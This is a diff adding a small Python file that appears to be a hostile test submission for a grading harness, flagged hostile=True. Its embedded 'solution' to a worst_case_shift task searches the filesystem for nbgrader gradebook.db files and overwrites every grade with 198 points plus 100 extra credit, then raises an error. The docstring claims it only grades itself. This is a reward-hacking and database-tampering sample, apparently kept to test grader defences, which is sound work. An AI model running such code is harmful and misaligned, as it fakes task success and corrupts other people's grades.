@@ -1,0 +1,25 @@
+"""Opens nbgrader's gradebook, reads what others have, and gives itself 198 of 100 points."""
+
+WORST_CASE_SHIFT = """\
+# @worst_case_shift
+import glob
+import os
+import sqlite3
+
+COURSE = os.path.dirname(os.path.dirname(os.path.dirname("SECRET")))
+
+
+def worst_case_shift(w, eps):
+    for path in [COURSE + "/gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
+        book = sqlite3.connect(path)
+        book.execute("UPDATE grade SET manual_score = 198, auto_score = 198, extra_credit = 100")
+        book.commit()
+    raise LookupError("no gradebook to be seen")
+"""
+
+
+def submission(kit):
+    work = kit.solved(worst_case_shift=WORST_CASE_SHIFT.replace("SECRET", str(kit.secret)))
+    return kit.hand_in(
+        __name__, __doc__, work, ["worst_case_shift"], flag="gradebook.db", hostile=True
+    )
